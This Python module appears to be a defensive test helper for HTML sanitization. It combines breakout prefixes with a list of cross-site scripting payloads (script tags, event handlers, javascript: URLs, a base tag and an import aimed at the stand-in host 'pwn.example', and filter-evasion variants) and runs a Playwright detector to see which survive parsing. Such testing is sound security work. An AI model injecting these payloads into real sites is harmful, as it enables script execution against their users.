"""Two hundred texts that would be markup or script somewhere, and a look at a page by a browser's own parser for what became of them."""

from __future__ import annotations

import itertools
from typing import Any, Final

_OUT_OF: Final = (
    "", '">', "'>", "</title>", "</textarea></script>", "</style>", "-->", "]]>", '" ', "' ", "</option></select>", "</svg></template>",
)  # fmt: skip
"""Ends the place where a text may stand: an attribute, a title, a script, a comment …"""
_WHAT: Final = (
    "<script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<svg/onload=pwn()>",
    "<a href=javascript:pwn()>pwn</a>",
    "<a href='java&#9;script:pwn()'>pwn</a>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<base href=//pwn.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<form action=javascript:pwn()><button>pwn</button></form>",
    "<object data=javascript:pwn()></object>",
    "<style>@import '//pwn.example'</style>",
    "<math><a xlink:href=javascript:pwn()>pwn</a></math>",
    "<ScRiPt/src=//pwn.example></sCrIpT>",
    "<div hx-get=/healthz hx-trigger=load pwn>",
    "<video><source onerror=pwn()></video>",
    "autofocus onfocus=pwn() pwn=",
)
STRINGS: Final = tuple(f"{out}{what}" for out, what in itertools.product(_OUT_OF, _WHAT) if what[0] == "<" or not out.endswith(">"))
CONTEXTS: Final = (
    "<p>{}</p>", '<p title="{}">', "<p title='{}'>", "<p title={}>", "<p {}>", "<title>{}</title>", "<textarea>{}</textarea>", "<style>{}</style>",
    '<script type="application/json">"{}"</script>', "<!-- {} -->", "<select><option>{}</option></select>", "<svg><template>{}</template></svg>",
    "<svg><![CDATA[{}]]></svg>",
)  # fmt: skip
"""Where a template that trusted a text would put it: in one of them at least each string does harm."""

FINDER: Final = r"""
(html) => {
  const found = new Set();
  const urls = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'ping', 'srcdoc', 'content', 'cite']);
  const root = html === null ? document : new DOMParser().parseFromString(html, 'text/html');
  const walk = (within) => {
    for (const one of within.querySelectorAll('*')) {
      const tag = one.localName;
      if (tag === 'template' && one.content) walk(one.content);
      if (['base', 'iframe', 'object', 'embed', 'math', 'details'].includes(tag) && one.outerHTML.includes('pwn')
          && !one.hasAttribute('data-summary') && tag !== 'details') found.add(tag);
      if ((tag === 'script' && one.type !== 'application/json' || tag === 'style') && one.textContent.includes('pwn')) found.add(tag);
      for (const { name, value } of one.attributes) {
        const plain = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        if (name.includes('pwn')) found.add(`${tag} ${name}`);
        if (/^on/.test(name)) found.add(`${tag} ${name}`);
        if (name === 'style' && plain.includes('pwn')) found.add(`${tag} style`);
        if (urls.has(name) && /^(javascript|vbscript|data:text|\/\/pwn)/.test(plain)) found.add(`${tag} ${name}=${plain.slice(0, 40)}`);
        if (name === 'content' && one.httpEquiv && plain.includes('pwn')) found.add('meta refresh');
        if (name.startsWith('hx-') && plain.startsWith('js:')) found.add(`${tag} ${name}`);
      }
    }
  };
  walk(root);
  if (window.__pwned) found.add('it ran');
  return [...found];
}
"""
"""Of a page's text, or (null) of the page that is open: what is in it that only one of our strings can have put there."""


def joined(limit: int | None = None, *, begin: int = 0) -> str:
    """All of them one after the other, or so many as `limit` characters hold, from the one at `begin`."""
    turned = STRINGS[begin % len(STRINGS) :] + STRINGS[: begin % len(STRINGS)]
    if limit is None:
        return " ".join(turned)
    return turned[0][:limit] if len(turned[0]) >= limit else " ".join(turned)[:limit]


def harm(page: Any, html: str | None) -> list[str]:
    """As the browser sees it; `page` is any open page of playwright's."""
    found: list[str] = page.evaluate(FINDER, html)
    return found
